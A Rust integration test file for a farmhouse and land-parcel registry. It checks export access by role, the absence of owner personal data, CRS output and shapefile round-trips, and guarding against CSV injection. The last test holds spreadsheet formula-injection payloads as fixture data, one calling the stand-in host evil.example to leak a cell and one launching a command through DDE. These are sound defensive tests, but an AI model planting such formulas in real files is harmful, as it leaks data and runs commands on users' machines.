//! Exports: for officials, officers and admins only; never any party data; in lon/lat or a survey CRS;
//! a shapefile export imports back into another registry with the same parcels and areas.

use crate::common;

use std::process::Command;

use crate::common::TestDb;
use crate::common::fixtures::{self, house, person};
use farmhouse::domain::roles::Role;
use serde_json::Value;

#[tokio::test]
async fn exports_are_for_officials_and_hold_no_party_data() {
    let db = TestDb::with_district().await;
    let h = house(&db.pool, 1).await;
    let owner = person(&db.pool, "330604198001011234").await;
    sqlx::query("update parties set address = '岭南乡青山村8号' where id = $1")
        .bind(owner)
        .execute(&db.pool)
        .await
        .unwrap();
    sqlx::query("update farmhouses set owner_party_id = $1 where id = $2")
        .bind(owner)
        .bind(h)
        .execute(&db.pool)
        .await
        .unwrap();

    for (role, status) in [(Role::Public, 401), (Role::Investor, 403)] {
        let addr = common::spawn_app_as(db.pool.clone(), role).await;
        let res = reqwest::get(format!("http://{addr}/api/v1/export/farmhouses.csv")).await.unwrap();
        assert_eq!(res.status(), status, "{role}");
    }
    for role in [Role::Official, Role::Officer, Role::Admin] {
        let addr = common::spawn_app_as(db.pool.clone(), role).await;
        for path in ["farmhouses.csv", "farmhouses.geojson", "parcels.csv", "parcels.geojson"] {
            let res = reqwest::get(format!("http://{addr}/api/v1/export/{path}")).await.unwrap();
            assert_eq!(res.status(), 200, "{role} {path}");
            let body = res.text().await.unwrap();
            assert!(body.contains("330604001001JC00001"), "{path}: {body}");
            for private in ["张三", "330604198001011234", "13800000000", "岭南乡青山村8号", "owner"] {
                assert!(!body.contains(private), "{role} {path} shows {private}");
            }
        }
    }
    let addr = common::spawn_app_as(db.pool.clone(), Role::Official).await;
    let csv = reqwest::get(format!("http://{addr}/api/v1/export/farmhouses.csv")).await.unwrap();
    assert_eq!(csv.headers()["content-type"], "text/csv; charset=utf-8");
    let csv = csv.text().await.unwrap();
    assert!(csv.starts_with("\u{feff}unit_number,parcel_code,township_code,floor_area_m2,"), "{csv}");
    assert!(csv.contains(",\"POLYGON(("), "{csv}");
    let geo: Value = reqwest::get(format!("http://{addr}/api/v1/export/parcels.geojson?crs=EPSG:4549"))
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(geo["crs"]["properties"]["name"], "urn:ogc:def:crs:EPSG::4549");
    assert!(geo["features"][0]["geometry"].get("crs").is_none(), "one crs member, at the top");
    let easting = geo["features"][0]["geometry"]["coordinates"][0][0][0].as_f64().unwrap();
    assert!((400_000.0..700_000.0).contains(&easting), "a Gauss–Krüger easting: {easting}");
    let lonlat: Value =
        reqwest::get(format!("http://{addr}/api/v1/export/parcels.geojson")).await.unwrap().json().await.unwrap();
    assert!(lonlat.get("crs").is_none(), "RFC 7946: lon/lat without a crs member");
    let res = reqwest::get(format!("http://{addr}/api/v1/export/parcels.geojson?crs=EPSG:3857")).await.unwrap();
    assert_eq!(res.status(), 422);
}

#[tokio::test]
async fn a_shapefile_export_imports_back_with_the_same_parcels_and_areas() {
    let source = TestDb::with_district().await;
    for n in 1..=3 {
        fixtures::parcel(&source.pool, &format!("330604001001JC{n:05}"), f64::from(n) * 100.0).await;
    }
    let dir = tempfile::tempdir().unwrap();
    let prefix = dir.path().join("out").join("parcels");
    let export = |format: &str, crs: &str, output: &std::path::Path| {
        let out = Command::new(env!("CARGO_BIN_EXE_farmhouse"))
            .args(["export", "parcels", "--format", format, "--crs", crs, "--output"])
            .arg(output)
            .args(["--database-url", &source.url])
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    };
    export("shp", "EPSG:4528", &prefix);
    for ext in ["shp", "shx", "dbf", "prj", "cpg"] {
        assert!(prefix.with_extension(ext).exists(), "{ext} written");
    }
    let csv_path = dir.path().join("parcels.csv");
    export("csv", "EPSG:4326", &csv_path);
    let csv = std::fs::read_to_string(&csv_path).unwrap();
    assert_eq!(csv.lines().count(), 4);
    assert!(csv.lines().next().unwrap().ends_with(",wkt"));

    let target = TestDb::with_district().await;
    let report = farmhouse::import::load::import(
        &target.pool,
        farmhouse::import::Kind::Parcels,
        farmhouse::import::Source::from_path(&prefix.with_extension("shp")).unwrap(),
        None,
        "test",
        farmhouse::import::quietly(),
    )
    .await
    .unwrap();
    assert_eq!((report.imported, report.crs.as_str()), (3, "EPSG:4528"));
    let areas = |pool: sqlx::PgPool| async move {
        sqlx::query_as::<_, (String, String, f64)>(
            "select parcel_code::text, village, area_m2 from parcels order by parcel_code",
        )
        .fetch_all(&pool)
        .await
        .unwrap()
    };
    let (before, after) = (areas(source.pool.clone()).await, areas(target.pool.clone()).await);
    assert_eq!(before.len(), after.len());
    for (b, a) in before.iter().zip(&after) {
        assert_eq!((&b.0, &b.1), (&a.0, &a.1));
        assert!((b.2 - a.2).abs() < 0.01, "{}: {} m² became {} m²", b.0, b.2, a.2);
    }
}

/// OWASP CSV injection: a text cell that a spreadsheet would run as a formula (it starts with = + - @, a
/// tab or a carriage return) is written with a leading `'`, in the HTTP export and the command line's;
/// numbers, negative ones included, stay numbers.
#[tokio::test]
async fn csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised() {
    let db = TestDb::with_district().await;
    let villages = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "青山村",
    ];
    for (n, village) in villages.iter().enumerate() {
        let code = format!("330604001001JC{:05}", n + 1);
        fixtures::parcel(&db.pool, &code, (n as f64 + 1.0) * 100.0).await;
        sqlx::query("update parcels set village = $1 where parcel_code = $2")
            .bind(village)
            .bind(&code)
            .execute(&db.pool)
            .await
            .unwrap();
    }
    let addr = common::spawn_app_as(db.pool.clone(), Role::Official).await;
    let served = reqwest::get(format!("http://{addr}/api/v1/export/parcels.csv")).await.unwrap().text().await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("parcels.csv");
    let out = Command::new(env!("CARGO_BIN_EXE_farmhouse"))
        .args(["export", "parcels", "--format", "csv", "--output"])
        .arg(&path)
        .args(["--database-url", &db.url])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let written = std::fs::read_to_string(&path).unwrap();

    for csv in [served, written] {
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let header = reader.headers().unwrap().clone();
        let column = |name: &str| header.iter().position(|h| h == name).unwrap();
        let (village, area) = (column("village"), column("area_m2"));
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), villages.len());
        for (row, original) in rows.iter().zip(villages) {
            let expected = if original == "青山村" { original.to_string() } else { format!("'{original}") };
            assert_eq!(&row[village], expected, "{csv}");
            assert!(row[area].parse::<f64>().unwrap() > 0.0, "numbers stay numbers: {}", &row[area]);
            assert!(row[column("wkt")].starts_with("POLYGON"));
        }
    }
}
